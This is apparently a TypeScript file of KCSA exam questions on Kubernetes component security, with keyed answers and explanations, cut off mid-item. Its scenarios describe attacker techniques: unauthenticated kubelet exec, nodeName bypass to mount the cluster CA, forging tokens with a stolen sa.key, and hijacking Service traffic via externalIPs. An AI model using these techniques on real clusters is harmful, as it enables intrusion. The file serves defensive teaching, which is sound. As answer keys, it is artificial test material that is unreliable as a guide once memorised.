import type {Question} from '../questions';

/** Questions for KCSA domain 2, Kubernetes Cluster Component Security. */
export const questions: readonly Question[] = [
  // KCSA-2.1: API server
  {
    id: 'kcsa-2-apiserver-anonymous-200',
    competencies: ['KCSA-2.1'],
    kind: 'scenario',
    prompt:
      "A scan from the internet sends requests without any credentials to a cluster's API server and gets the output below. What does it show?",
    snippet: {
      language: 'bash',
      code: "$ curl -sk https://203.0.113.10:6443/livez; echo\nok\n$ curl -sk -o /dev/null -w '%{http_code}\\n' https://203.0.113.10:6443/api/v1/namespaces\n200",
    },
    options: [
      {
        text: 'Anonymous authentication is on, and the authorizer lets anonymous callers list namespaces: typically someone bound a role that allows it to `system:anonymous` or `system:unauthenticated`.',
        correct: true,
        why: 'An unauthenticated request continues as `system:anonymous` in `system:unauthenticated`. By default RBAC lets that identity read only the health and version endpoints (the `system:public-info-viewer` binding), so a 200 on `/api/v1/namespaces` means someone widened that: usually an extra binding, in the worst case `--authorization-mode=AlwaysAllow`.',
      },
      {
        text: 'This is the default behaviour of every kubeadm cluster and needs no action.',
        correct: false,
        why: 'The default bindings let anonymous callers see health and version endpoints only; listing namespaces returns 403 unless someone granted more.',
      },
      {
        text: 'The `/livez` answer alone proves the cluster is exposed, because health endpoints should need a client certificate.',
        correct: false,
        why: 'Health endpoints are meant to be readable without credentials (kubelet probes and load balancers use them). The 200 on a resource path is the finding.',
      },
      {
        text: 'The API server must be running with `--insecure-port`, which skips authentication.',
        correct: false,
        why: 'Insecure serving was removed in v1.20 and the flag itself in v1.24; this traffic went over HTTPS on 6443, the only listener.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/api-server#anonymous-access-plus-one-careless-binding',
      label: 'Anonymous access plus one careless binding',
    },
  },
  {
    id: 'kcsa-2-apiserver-anonymous-off-probes',
    competencies: ['KCSA-2.1'],
    kind: 'scenario',
    prompt:
      'On a kubeadm cluster an administrator adds `--anonymous-auth=false` to `/etc/kubernetes/manifests/kube-apiserver.yaml` and changes nothing else. A few minutes later the API server container keeps restarting. Why, and what is the better way to limit anonymous access?',
    example: 'components/authentication-config-anonymous-health-only.yaml',
    options: [
      {
        text: "The kubelet's HTTP liveness and readiness probes against `/livez` and `/readyz` carry no credentials, now get 401, and the kubelet restarts the container; keep anonymous access for the health paths only, with an AuthenticationConfiguration like the one shown.",
        correct: true,
        why: 'Probes are unauthenticated. Structured authentication can enable anonymous access only for listed paths (`/livez`, `/readyz`, `/healthz`), so probes work and every other anonymous request is rejected.',
      },
      {
        text: 'The flag was removed in v1.24; the API server refuses to start with it.',
        correct: false,
        why: '`--anonymous-auth` still exists. What the API server refuses is combining it with an `anonymous` block in `--authentication-config`.',
      },
      {
        text: 'With anonymous access off, the controller manager and scheduler can no longer authenticate.',
        correct: false,
        why: 'They authenticate with client certificates from their own kubeconfigs, which anonymous settings do not affect.',
      },
      {
        text: 'The fix is to pass both `--anonymous-auth=false` and the AuthenticationConfiguration file, so each covers the other.',
        correct: false,
        why: 'When the authentication configuration has an `anonymous` block, the API server refuses to start if `--anonymous-auth` is also set. Use one mechanism.',
      },
    ],
    source: {to: '/docs/fundamentals/components/api-server#settings', label: 'API server: settings that matter'},
  },
  {
    id: 'kcsa-2-apiserver-system-masters-cert',
    competencies: ['KCSA-2.1', 'KCSA-2.10'],
    kind: 'scenario',
    prompt:
      "A contractor's laptop is stolen. In August, during an outage, the contractor copied `/etc/kubernetes/super-admin.conf` from a kubeadm control plane node onto it. You decode its client certificate and see the output below. Which statements are true? Choose all that apply.",
    snippet: {
      language: 'text',
      code: 'subject=O = system:masters, CN = kubernetes-super-admin\nnotAfter=Aug 14 09:12:44 2027 GMT',
    },
    options: [
      {
        text: 'Requests with this certificate bypass authorization entirely, so removing RoleBindings or ClusterRoleBindings does not stop it.',
        correct: true,
        why: 'The API server lets members of `system:masters` through with a built-in authorizer that runs before RBAC, so no RBAC change affects them.',
      },
      {
        text: 'Kubernetes has no way to revoke a single client certificate; it stays valid until it expires unless you replace the CA that signed it.',
        correct: true,
        why: 'The API server does not check certificate revocation lists. Only expiry or rotating the cluster CA (and re-issuing every certificate it signed) ends this credential.',
      },
      {
        text: 'Deleting the `kubeadm:cluster-admins` ClusterRoleBinding cuts this certificate off.',
        correct: false,
        why: 'That binding is what kubeadm (since v1.29) gives the `admin.conf` identity (group `kubeadm:cluster-admins`). This certificate is in `system:masters`, which does not depend on any binding.',
      },
      {
        text: 'Since v1.29 the API server rejects certificates in `system:masters`.',
        correct: false,
        why: 'v1.29 changed what kubeadm writes: `admin.conf` moved to `kubeadm:cluster-admins`, and the `system:masters` credential went into the separate `super-admin.conf`, which exists precisely because the API server still honours the group.',
      },
    ],
    source: {
      to: '/docs/fundamentals/authentication/kubeconfig-and-client-credentials#admin-conf',
      label: 'The admin.conf problem',
    },
  },
  {
    id: 'kcsa-2-apiserver-admission-webhook-power',
    competencies: ['KCSA-2.1'],
    kind: 'concept',
    prompt:
      'Why should `create` and `update` on `mutatingwebhookconfigurations` and `apiservices` be treated as equivalent to cluster-admin?',
    options: [
      {
        text: 'A mutating webhook can rewrite every Pod it subscribes to, for example adding a privileged backdoor container.',
        correct: true,
        why: 'The API server calls the webhook on its own authority and applies the patch it returns to every matching object.',
      },
      {
        text: 'An APIService can route a whole API group to a Service the attacker controls, which then receives and answers those requests.',
        correct: true,
        why: "The aggregation layer forwards requests for that group, with the caller's identity in front-proxy headers, to the registered backend.",
      },
      {
        text: 'Webhook configurations are stored unencrypted in etcd, so creating one leaks every Secret.',
        correct: false,
        why: 'Creating a webhook configuration does not disclose etcd contents; the danger is the request path it controls.',
      },
      {
        text: "Webhooks run inside the API server process, so their code runs with the API server's file system access.",
        correct: false,
        why: 'Admission webhooks are external HTTPS services; the risk is what the API server does with their answers, not code running in its process.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/api-server#hijacking-the-request-path',
      label: 'Hijacking the request path',
    },
  },
  {
    id: 'kcsa-2-apiserver-node-restriction',
    competencies: ['KCSA-2.1', 'KCSA-2.4'],
    kind: 'concept',
    prompt:
      "Which API server settings limit what a compromised node's kubelet credential can do in the cluster? Choose all that apply.",
    options: [
      {
        text: '`--authorization-mode=Node,RBAC`',
        correct: true,
        why: 'The Node authorizer lets a kubelet read only the Secrets, ConfigMaps and volumes of Pods bound to its own node.',
      },
      {
        text: '`--enable-admission-plugins` including `NodeRestriction`',
        correct: true,
        why: 'NodeRestriction limits a kubelet to modifying its own Node and its own Pods, and stops it setting protected `node-restriction.kubernetes.io/` labels. It is not on by default; kubeadm adds it.',
      },
      {
        text: '`--profiling=false`',
        correct: false,
        why: 'Closing `/debug/pprof` is good hygiene but has nothing to do with what a kubelet identity may do.',
      },
      {
        text: '`--service-account-lookup=true`',
        correct: false,
        why: 'It makes legacy service account tokens stop working when their ServiceAccount or Secret is deleted; it does not restrict node credentials.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/kubelet#a-compromised-node-attacking-the-cluster',
      label: 'A compromised node attacking the cluster',
    },
  },

  // KCSA-2.2: controller manager
  {
    id: 'kcsa-2-kcm-use-service-account-credentials',
    competencies: ['KCSA-2.2'],
    kind: 'concept',
    prompt: 'What does `--use-service-account-credentials=true` on kube-controller-manager change?',
    options: [
      {
        text: 'Each controller talks to the API server with its own ServiceAccount token, bound to a narrow `system:controller:<name>` ClusterRole.',
        correct: true,
        why: 'Controllers then hold only the permissions their loop needs, and the audit log shows which controller made each change.',
      },
      {
        text: 'It makes the controller manager sign projected service account tokens for Pods.',
        correct: false,
        why: 'Projected tokens are issued by the API server through the TokenRequest API, signed with `--service-account-signing-key-file`.',
      },
      {
        text: "It lets Pods use the controller manager's credentials when they have no ServiceAccount.",
        correct: false,
        why: "Every Pod runs as a ServiceAccount of its own namespace (`default` if none is named); the flag concerns the controllers' identities only.",
      },
      {
        text: 'Without it the controllers run unauthenticated.',
        correct: false,
        why: "Without it every controller uses the controller manager's own client certificate (`system:kube-controller-manager`), which must then hold the union of all their permissions.",
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#settings',
      label: 'Settings that matter',
    },
  },
  {
    id: 'kcsa-2-kcm-stolen-sa-key',
    competencies: ['KCSA-2.2'],
    kind: 'scenario',
    prompt:
      "A backup of a control plane node's disk, including `/etc/kubernetes/pki/sa.key` and `ca.key`, was left in a public bucket for a week. Which responses actually remove the attacker's ability to use what was taken? Choose all that apply.",
    options: [
      {
        text: 'Rotate the service account signing key pair, so tokens signed with the old `sa.key` stop verifying.',
        correct: true,
        why: "With `sa.key` an attacker can sign a token for any ServiceAccount with any expiry. Only removing the old public key from the API server's `--service-account-key-file` makes those tokens invalid.",
      },
      {
        text: 'Rotate the cluster CA and re-issue the certificates it signed.',
        correct: true,
        why: 'With `ca.key` the attacker can sign client certificates for any user or group, including `system:masters`. Certificates cannot be revoked individually, so the CA itself must be replaced.',
      },
      {
        text: 'Delete every ClusterRoleBinding to `cluster-admin` and recreate them.',
        correct: false,
        why: 'A forged `system:masters` certificate bypasses RBAC, and forged tokens can name any existing privileged ServiceAccount; recreating bindings changes neither.',
      },
      {
        text: 'Restart kube-controller-manager so it loads a fresh key.',
        correct: false,
        why: 'A restart reloads the same files. The keys must be replaced, and the API server must stop trusting the old ones.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#stealing-the-keys',
      label: 'Stealing the keys',
    },
  },
  {
    id: 'kcsa-2-kcm-token-secret-confused-deputy',
    competencies: ['KCSA-2.2'],
    kind: 'scenario',
    prompt:
      'A CI identity may create and read Secrets in `kube-system` (for its own deploy keys) but has no other rights there. It creates a Secret of type `kubernetes.io/service-account-token` with the annotation `kubernetes.io/service-account.name` set to a powerful ServiceAccount in `kube-system`. What happens?',
    options: [
      {
        text: 'The token controller in kube-controller-manager fills the Secret with a non-expiring token for that ServiceAccount, which the CI identity then reads: it now acts as that ServiceAccount.',
        correct: true,
        why: 'The controller acts on the request with its own, broader rights: a confused deputy. That is why `create secrets` in a namespace with powerful ServiceAccounts is as dangerous as their permissions.',
      },
      {
        text: 'The API server rejects the Secret, because token Secrets can only be created by the controller manager since v1.24.',
        correct: false,
        why: 'v1.24 stopped generating token Secrets automatically; creating one by hand is still allowed and the controller still populates it.',
      },
      {
        text: 'The Secret is created empty, because tokens are only issued through the TokenRequest API.',
        correct: false,
        why: 'Projected tokens come from TokenRequest, but the legacy token controller still fills annotated token Secrets.',
      },
      {
        text: 'The token is bound to the Secret and expires after one hour.',
        correct: false,
        why: 'Legacy Secret-based tokens have no expiry; they stay valid until the Secret or ServiceAccount is deleted.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#turning-controllers-into-confused-deputies',
      label: 'Turning controllers into confused deputies',
    },
  },
  {
    id: 'kcsa-2-kcm-csr-approval-event',
    competencies: ['KCSA-2.2', 'KCSA-2.10'],
    kind: 'scenario',
    prompt:
      'This audit event shows a CI service account approving a CertificateSigningRequest it created seconds earlier. Which statements are true? Choose all that apply.',
    example: 'attack-vectors/event-csr-approval-update.yaml',
    options: [
      {
        text: "Once approved, kube-controller-manager's signing controller issues a client certificate for the subject named in the CSR's request, valid for up to the requested year unless `--cluster-signing-duration` is shorter.",
        correct: true,
        why: 'Approval is what makes the controller manager sign; the certificate lifetime is the smaller of `expirationSeconds` and the signing duration.',
      },
      {
        text: 'The resulting certificate is a long-lived credential that cannot be revoked before it expires, so access gained with a stolen bot token can outlive the token itself.',
        correct: true,
        why: 'Client certificates are not revocable in Kubernetes; turning a token into a one-year certificate is a persistence technique. Rotating the bot token does not touch the certificate.',
      },
      {
        text: 'Had the CSR asked for the group `system:masters`, the CertificateSubjectRestriction admission plugin would have rejected it.',
        correct: true,
        why: 'That plugin, on by default, refuses `kubernetes.io/kube-apiserver-client` CSRs requesting `system:masters`. Other privileged groups are not blocked, so approval rights must stay narrow.',
      },
      {
        text: 'Nothing happens until an administrator also runs `kubectl certificate approve`.',
        correct: false,
        why: 'The event is that approval: the `approval` subresource update added the `Approved` condition, which is all the signer waits for.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#turning-controllers-into-confused-deputies',
      label: 'Turning controllers into confused deputies',
    },
  },

  // KCSA-2.3: scheduler
  {
    id: 'kcsa-2-scheduler-nodename-bypass',
    competencies: ['KCSA-2.3'],
    kind: 'scenario',
    prompt:
      'A user who may create Pods in namespace `dev` (no Pod Security labels) submits a Pod with `spec.nodeName: cp-1`, the name of a control plane node tainted `node-role.kubernetes.io/control-plane:NoSchedule`, and a `hostPath` volume for `/etc/kubernetes/pki`. The Pod has no tolerations. What happens?',
    options: [
      {
        text: 'The Pod runs on cp-1 and can read the cluster CA and service account keys, because setting `nodeName` skips the scheduler, which is what enforces NoSchedule taints.',
        correct: true,
        why: 'A Pod with `nodeName` set goes straight to that kubelet, which checks only basic fit. The scheduler never sees it, so NoSchedule does not apply. Only admission (Pod Security Baseline forbids hostPath) would stop it.',
      },
      {
        text: 'The scheduler rejects the Pod because it does not tolerate the control plane taint.',
        correct: false,
        why: 'The scheduler only handles Pods without `nodeName`. This Pod is already bound and never enters its queue.',
      },
      {
        text: 'The API server rejects any Pod that sets `nodeName` unless the user is cluster-admin.',
        correct: false,
        why: 'Setting `nodeName` needs only `create pods`. Restricting it takes an admission policy such as a ValidatingAdmissionPolicy.',
      },
      {
        text: 'The Pod stays Pending until a scheduler named in `schedulerName` binds it.',
        correct: false,
        why: '`schedulerName` only matters for Pods that still need scheduling; a Pod with `nodeName` set is already assigned.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#bypassing-the-scheduler',
      label: 'Bypassing the scheduler',
    },
  },
  {
    id: 'kcsa-2-scheduler-ports-bind',
    competencies: ['KCSA-2.3', 'KCSA-2.2'],
    kind: 'concept',
    prompt:
      'Which statements about the network exposure of kube-scheduler and kube-controller-manager in v1.37 are true? Choose all that apply.',
    options: [
      {
        text: 'kube-scheduler serves HTTPS on 10259 and kube-controller-manager on 10257; kubeadm binds both to 127.0.0.1.',
        correct: true,
        why: "Those are the secure ports; the only callers that need them are the local kubelet's probes and a local metrics scraper.",
      },
      {
        text: 'Setting `--profiling=false` on both removes `/debug/pprof`.',
        correct: true,
        why: 'Profiling is on by default and exposes internals; the CIS Benchmark asks for it to be off on both components.',
      },
      {
        text: 'The scheduler still serves plain HTTP on 10251, which must be firewalled.',
        correct: false,
        why: 'The insecure ports (10251 for the scheduler, 10252 for the controller manager) were removed; the `--port` and `--address` flags were gone by v1.24.',
      },
      {
        text: '`/metrics` on both ports is readable without credentials, like `/healthz`.',
        correct: false,
        why: 'Only the health paths skip authorization by default (`--authorization-always-allow-paths`); `/metrics` needs a caller authorized for that non-resource URL.',
      },
    ],
    source: {to: '/docs/fundamentals/components/controller-manager-and-scheduler#exposes', label: 'What they expose'},
  },
  {
    id: 'kcsa-2-scheduler-lease-dos',
    competencies: ['KCSA-2.3'],
    kind: 'concept',
    prompt:
      'A role outside the control plane grants `update` on `leases` in `kube-system`. Why does this matter for the scheduler and controller manager?',
    options: [
      {
        text: 'The holder can keep taking the leader election Lease, so no real replica acts and scheduling and control loops stall: a quiet denial of service.',
        correct: true,
        why: 'Both components coordinate replicas through Leases in `kube-system`; whoever holds the Lease is the leader, and the others wait.',
      },
      {
        text: "The holder can read the scheduler's client certificate from the Lease object.",
        correct: false,
        why: 'A Lease holds only the holder identity and timestamps, no credentials.',
      },
      {
        text: 'Nothing, because leader election uses etcd directly rather than API objects.',
        correct: false,
        why: 'Leader election uses Lease objects through the API server, so RBAC on them matters.',
      },
      {
        text: 'The holder can choose which node each Pod is scheduled to.',
        correct: false,
        why: "Holding the Lease does not run the scheduler's code for the attacker; it only stops the real scheduler from acting.",
      },
    ],
    source: {
      to: '/docs/fundamentals/components/controller-manager-and-scheduler#exposed-ports-and-leader-election',
      label: 'Exposed ports and leader election',
    },
  },
  {
    id: 'kcsa-2-scheduler-trust',
    competencies: ['KCSA-2.3'],
    kind: 'concept',
    prompt: 'How does kube-scheduler authenticate to the API server on a kubeadm cluster, and what does it trust?',
    options: [
      {
        text: 'With a client certificate for `system:kube-scheduler` from `/etc/kubernetes/scheduler.conf`; it trusts the API server as its only source of state.',
        correct: true,
        why: 'The scheduler reads Pods and Nodes from the API server and writes bindings back; the kubeconfig file holds its key and should be `600` and `root:root`.',
      },
      {
        text: 'With a ServiceAccount token mounted from `kube-system`, like any add-on.',
        correct: false,
        why: 'kubeadm runs the scheduler as a static Pod that uses its own kubeconfig with a client certificate.',
      },
      {
        text: "It connects directly to etcd with the API server's client certificate.",
        correct: false,
        why: 'Only the API server talks to etcd; every other component goes through the API.',
      },
      {
        text: 'It needs no authentication because it runs on the control plane node.',
        correct: false,
        why: 'The API server authenticates every caller, including control plane components.',
      },
    ],
    source: {to: '/docs/fundamentals/components/controller-manager-and-scheduler#trusts', label: 'What they trust'},
  },

  // KCSA-2.4: kubelet
  {
    id: 'kcsa-2-kubelet-exposed-config',
    competencies: ['KCSA-2.4'],
    kind: 'scenario',
    prompt:
      'A hand-built node runs the kubelet with this configuration, and port 10250 is reachable from the Pod network. Which statements are true? Choose all that apply.',
    example: 'attack-vectors/kubelet-config-exposed.yaml',
    options: [
      {
        text: 'Anyone who reaches 10250 can run commands in any container on the node, for example with a POST to `/run/<ns>/<pod>/<container>`, with no credentials.',
        correct: true,
        why: 'Anonymous requests are authenticated as `system:anonymous` and `AlwaysAllow` authorizes everything, including run and exec.',
      },
      {
        text: "Port 10255 serves the node's Pod specs over plain HTTP without authentication.",
        correct: true,
        why: 'That is the read-only port; it leaks Pod specs, including values passed as environment variables.',
      },
      {
        text: "The commands would appear in the API server's audit log as `pods/exec`.",
        correct: false,
        why: 'Direct calls to the kubelet never touch the API server, so no Kubernetes audit event records them.',
      },
      {
        text: 'The fix is `authentication.anonymous.enabled: false`, `authentication.webhook.enabled: true`, `authorization.mode: Webhook` and `readOnlyPort: 0`.',
        correct: true,
        why: 'These are the secure values, which the `kubelet.config.k8s.io/v1beta1` defaults already give when a config file does not spell out the legacy flag defaults.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kubelet#an-open-kubelet-api', label: 'An open kubelet API'},
  },
  {
    id: 'kcsa-2-kubelet-nodes-proxy-get',
    competencies: ['KCSA-2.4'],
    kind: 'scenario',
    prompt:
      'A monitoring agent was given this ClusterRole "read-only, to scrape cAdvisor". What can an attacker who steals the agent\'s token do?',
    example: 'attack-vectors/rbac-monitoring-nodes-proxy.yaml',
    options: [
      {
        text: 'Run commands in any container on any node, because exec over WebSocket starts with an HTTP GET, which the kubelet authorizes as `get` on `nodes/proxy`.',
        correct: true,
        why: 'Exec, run and attach on the kubelet are all `nodes/proxy`, and the WebSocket handshake maps to `get`. The grant is effectively "run code on the node".',
      },
      {
        text: 'Only read metrics, because the role grants no `create` verb.',
        correct: false,
        why: 'The kubelet derives the verb from the HTTP method, and a WebSocket exec uses GET. Kubernetes documents this as expected behaviour of `nodes/proxy`.',
      },
      {
        text: 'Read node objects but not contact kubelets, because `nodes/proxy` only works for cluster-admin.',
        correct: false,
        why: 'RBAC grants `nodes/proxy` to any subject bound to it; no special role is required.',
      },
      {
        text: 'Nothing through the API server, since `pods/exec` is not in the role, and calls are blocked at the kubelet.',
        correct: false,
        why: "`nodes/proxy` reaches the kubelet both directly on 10250 with the token and through the API server's node proxy path, bypassing `pods/exec` rules.",
      },
    ],
    source: {
      to: '/docs/fundamentals/components/kubelet#nodesproxy-even-read-only',
      label: '`nodes/proxy`, even read-only',
    },
  },
  {
    id: 'kcsa-2-kubelet-ports',
    competencies: ['KCSA-2.4'],
    kind: 'concept',
    prompt: 'Match the kubelet ports to what they serve. Which pairings are correct? Choose all that apply.',
    options: [
      {
        text: '10250: the authenticated HTTPS kubelet API (Pods, logs, exec, metrics)',
        correct: true,
        why: 'The main kubelet API, protected by its authentication and authorization settings.',
      },
      {
        text: '10255: the read-only HTTP port, with no authentication, off (`readOnlyPort: 0`) by default in a config file',
        correct: true,
        why: 'The legacy flag default is 10255, which is why an explicit `readOnlyPort: 0` is the CIS recommendation.',
      },
      {
        text: '10248: the local health check, bound to 127.0.0.1',
        correct: true,
        why: 'The healthz endpoint listens on loopback by default.',
      },
      {
        text: "10259: the kubelet's metrics port",
        correct: false,
        why: "10259 is kube-scheduler's secure port. Kubelet metrics are served on 10250 (`/metrics`, `/metrics/cadvisor`).",
      },
    ],
    source: {to: '/docs/fundamentals/components/kubelet#exposes', label: 'Kubelet: what it exposes'},
  },
  {
    id: 'kcsa-2-kubelet-flags-override-file',
    competencies: ['KCSA-2.4'],
    kind: 'scenario',
    prompt:
      'You set `authorization.mode: Webhook` in `/var/lib/kubelet/config.yaml` and restart the kubelet, but a test shows it still authorizes every request. `ps -C kubelet -o args=` shows `--config=/var/lib/kubelet/config.yaml --authorization-mode=AlwaysAllow`. What explains it?',
    options: [
      {
        text: 'Command-line flags override the config file; remove the flag from `kubeadm-flags.env` or the systemd drop-in.',
        correct: true,
        why: 'When a setting is given both ways, the flag wins. Check `/var/lib/kubelet/kubeadm-flags.env` and `systemctl cat kubelet` for overrides.',
      },
      {
        text: 'The config file is only read on first boot; the kubelet must be re-joined to the cluster.',
        correct: false,
        why: 'The kubelet reads its config file at every start; a restart is enough once no flag overrides it.',
      },
      {
        text: "`Webhook` mode needs the API server's `--authorization-mode` to include `Webhook` too.",
        correct: false,
        why: "The kubelet's Webhook mode sends SubjectAccessReviews to the API server, which answers them with its own authorizers (Node, RBAC); nothing extra is needed there.",
      },
      {
        text: 'The change takes effect only after `kubectl drain` of the node.',
        correct: false,
        why: 'Draining moves Pods off the node; it has nothing to do with how the kubelet loads its configuration.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kubelet#settings', label: 'Kubelet: settings that matter'},
  },

  // KCSA-2.5: container runtime
  {
    id: 'kcsa-2-runtime-socket-hostpath',
    competencies: ['KCSA-2.5'],
    kind: 'scenario',
    prompt:
      'A platform team deploys this DaemonSet to inventory containers. An attacker gets code execution in one of its Pods. Which statements are true? Choose all that apply.',
    example: 'attack-vectors/baseline-fails-hostpath-runtime-socket.yaml',
    options: [
      {
        text: "Through the socket the attacker can ask containerd to start a privileged container that mounts the node's root file system.",
        correct: true,
        why: 'The CRI socket has no authentication beyond file permissions; whoever can open it controls the runtime, which is root on the node.',
      },
      {
        text: 'Containers started that way never pass through the API server, so admission, Pod Security and the audit log do not see them.',
        correct: true,
        why: 'The runtime answers whoever talks to its socket; the Kubernetes control plane is not involved.',
      },
      {
        text: 'The DaemonSet fails the Baseline Pod Security level because of its hostPath volume.',
        correct: true,
        why: 'Baseline forbids hostPath volumes entirely, which is the control that keeps such mounts out of application namespaces.',
      },
      {
        text: 'The risk is small because the socket is mounted without `readOnly: true`, which only allows listing containers.',
        correct: false,
        why: 'Read-only mounts do not stop a process from connecting to a Unix socket; and the mount here is writable anyway. Socket access means full runtime control.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/container-runtime#talking-to-the-runtime-socket',
      label: 'Talking to the runtime socket',
    },
    claims: [{file: 'attack-vectors/baseline-fails-hostpath-runtime-socket.yaml', pss: 'baseline', passes: false}],
  },
  {
    id: 'kcsa-2-runtime-dockershim-removed',
    competencies: ['KCSA-2.5'],
    kind: 'concept',
    prompt: 'On a v1.37 node, how does the kubelet start containers?',
    options: [
      {
        text: 'It calls a CRI runtime (containerd or CRI-O) over gRPC on a local Unix socket; the runtime uses an OCI runtime such as runc or crun to create the containers.',
        correct: true,
        why: 'The chain is kubelet, CRI, containerd or CRI-O, OCI runtime, kernel. The endpoint is `containerRuntimeEndpoint` in the kubelet configuration.',
      },
      {
        text: 'It talks to Docker Engine through the built-in dockershim at `/var/run/docker.sock`.',
        correct: false,
        why: 'Dockershim was removed in v1.24. Docker Engine can only be used through the external cri-dockerd adapter.',
      },
      {
        text: 'It creates the Linux namespaces and cgroups itself and only asks the runtime to pull images.',
        correct: false,
        why: 'The kubelet delegates container creation to the CRI runtime; it does not set up namespaces itself.',
      },
      {
        text: 'It sends Pod specs to the API server, which forwards them to the runtime.',
        correct: false,
        why: 'The API server never talks to runtimes. The kubelet on each node drives its local runtime.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/container-runtime#exposes',
      label: 'Container runtime: what it exposes',
    },
  },
  {
    id: 'kcsa-2-runtime-runc-cve-patching',
    competencies: ['KCSA-2.5'],
    kind: 'concept',
    prompt:
      'CVE-2024-21626 ("Leaky Vessels") let a container reach the host file system through a leaked file descriptor in runc. What is the primary fix, and what reduces the impact of similar bugs? Choose all that apply.',
    options: [
      {
        text: 'Upgrade runc on every node, as part of node maintenance alongside Kubernetes upgrades.',
        correct: true,
        why: 'The bug lives in the OCI runtime, which is packaged separately from Kubernetes; upgrading the control plane does not fix it.',
      },
      {
        text: 'Run workloads as non-root with dropped capabilities and RuntimeDefault seccomp, and put untrusted code in a sandboxed RuntimeClass.',
        correct: true,
        why: 'Several runtime escapes needed root in the container or were blocked by extra confinement; a sandbox adds a boundary that does not depend on runc alone.',
      },
      {
        text: 'Upgrade the API server; the fix ships in kube-apiserver.',
        correct: false,
        why: 'The API server does not create containers; runc does.',
      },
      {
        text: 'Enable NetworkPolicy default deny.',
        correct: false,
        why: 'The escape happens through the runtime on the node, not over the network.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/container-runtime#escaping-through-the-runtime-or-the-kernel',
      label: 'Escaping through the runtime or the kernel',
    },
  },
  {
    id: 'kcsa-2-runtime-handler-mismatch',
    competencies: ['KCSA-2.5', 'KCSA-1.4'],
    kind: 'scenario',
    prompt:
      "A Pod sets `runtimeClassName: gvisor`. The RuntimeClass `gvisor` names the handler `runsc`, but the nodes' containerd configuration defines no runtime called `runsc`. What happens to the Pod?",
    options: [
      {
        text: 'It does not start: it stays in ContainerCreating with an event saying there is no runtime for the handler.',
        correct: true,
        why: 'The handler name must match a runtime configured on the node. The runtime refuses to create the sandbox rather than fall back to runc.',
      },
      {
        text: 'It starts with runc instead, silently losing the sandbox.',
        correct: false,
        why: 'There is no silent fallback; a missing handler is an error.',
      },
      {
        text: 'The API server rejects it at creation time.',
        correct: false,
        why: "The API server only checks that the RuntimeClass object exists; it cannot see the nodes' runtime configuration.",
      },
      {
        text: 'The scheduler keeps it Pending forever.',
        correct: false,
        why: 'Scheduling is not where it fails: the Pod is bound to a node and then fails when the runtime is asked to create the sandbox.',
      },
    ],
    source: {to: '/docs/fundamentals/components/container-runtime#verify', label: 'Container runtime: verify it'},
  },

  // KCSA-2.6: kube-proxy
  {
    id: 'kcsa-2-kube-proxy-externalips-event',
    competencies: ['KCSA-2.6'],
    kind: 'scenario',
    prompt:
      'This audit event records a deployer creating a Service. What is the security impact, and what prevents it?',
    example: 'attack-vectors/event-service-externalips-create.yaml',
    options: [
      {
        text: "Every node's kube-proxy now sends in-cluster traffic for 203.0.113.50:443 to the `metrics-cache` Pods, so a namespace user can intercept traffic meant for that address (CVE-2020-8554).",
        correct: true,
        why: "kube-proxy trusts any Service's `externalIPs` and programs rules for it on every node. This is a design flaw with no patch.",
      },
      {
        text: 'Enabling the `DenyServiceExternalIPs` admission plugin (or an equivalent admission policy) stops new Services from setting `externalIPs`.',
        correct: true,
        why: 'The plugin, added in v1.21, rejects `externalIPs` on creation and on updates that add new addresses. Services that already had them keep them, so audit existing ones; use a policy instead if you need an allow-list.',
      },
      {
        text: 'Upgrading kube-proxy to a patched release fixes it.',
        correct: false,
        why: 'CVE-2020-8554 was never patched in kube-proxy; the mitigation is admission control and RBAC on `services/status`.',
      },
      {
        text: 'The request is harmless because RBAC allowed it.',
        correct: false,
        why: 'The built-in `edit` role allows creating Services, but that says nothing about whether claiming an external address is safe.',
      },
    ],
    source: {
      to: '/docs/fundamentals/components/kube-proxy-and-cni#stealing-service-traffic',
      label: 'Stealing Service traffic',
    },
  },
  {
    id: 'kcsa-2-kube-proxy-role',
    competencies: ['KCSA-2.6', 'KCSA-2.9'],
    kind: 'concept',
    prompt: "Which statement describes kube-proxy's job correctly?",
    options: [
      {
        text: "It watches Services and EndpointSlices and programs each node's kernel (nftables, iptables or IPVS rules) so traffic to a Service address reaches its endpoints.",
        correct: true,
        why: "kube-proxy implements Service virtual IPs and NodePorts; Pod connectivity and NetworkPolicy are the CNI plugin's job.",
      },
      {
        text: 'It enforces NetworkPolicy objects on every node.',
        correct: false,
        why: 'NetworkPolicy is enforced by the network plugin (Calico, Cilium, Antrea...), not by kube-proxy.',
      },
      {
        text: 'It assigns IP addresses to Pods and creates their network interfaces.',
        correct: false,
        why: 'The container runtime calls the CNI plugin for that when it creates a Pod sandbox.',
      },
      {
        text: 'It proxies `kubectl exec` and `kubectl logs` streams from the API server to kubelets.',
        correct: false,
        why: 'The API server connects to the kubelet directly for those; kube-proxy is not in that path despite its name.',
      },
    ],
    source: {to: '/docs/fundamentals/components/kube-proxy-and-cni#trusts', label: 'What they trust'},
  },
  {
    id: 'kcsa-2-kube-proxy-ports',
    competencies: ['KCSA-2.6'],
    kind: 'scenario',
    prompt:
      'From a machine outside the cluster, `curl http://192.0.2.21:10249/metrics` against a worker node returns a long list of kube-proxy metrics naming Services and endpoints. What does this tell you?',
    options: [
      {
        text: "kube-proxy's `metricsBindAddress` was changed from its loopback default to a reachable address, handing out a map of the cluster; set it back to `127.0.0.1:10249`.",
        correct: true,
        why: 'The metrics port is plain HTTP with no authentication and defaults to loopback; exposing it reveals Service topology, and pprof too if profiling is on.',
      },
      {
        text: 'Nothing is wrong: 10249 is the health-check port that cloud load balancers must reach.',
        correct: false,
        why: 'Load balancers probe the healthz port, 10256. 10249 is the metrics port and should stay on loopback.',
      },
      {
        text: "The kubelet's read-only port is open.",
        correct: false,
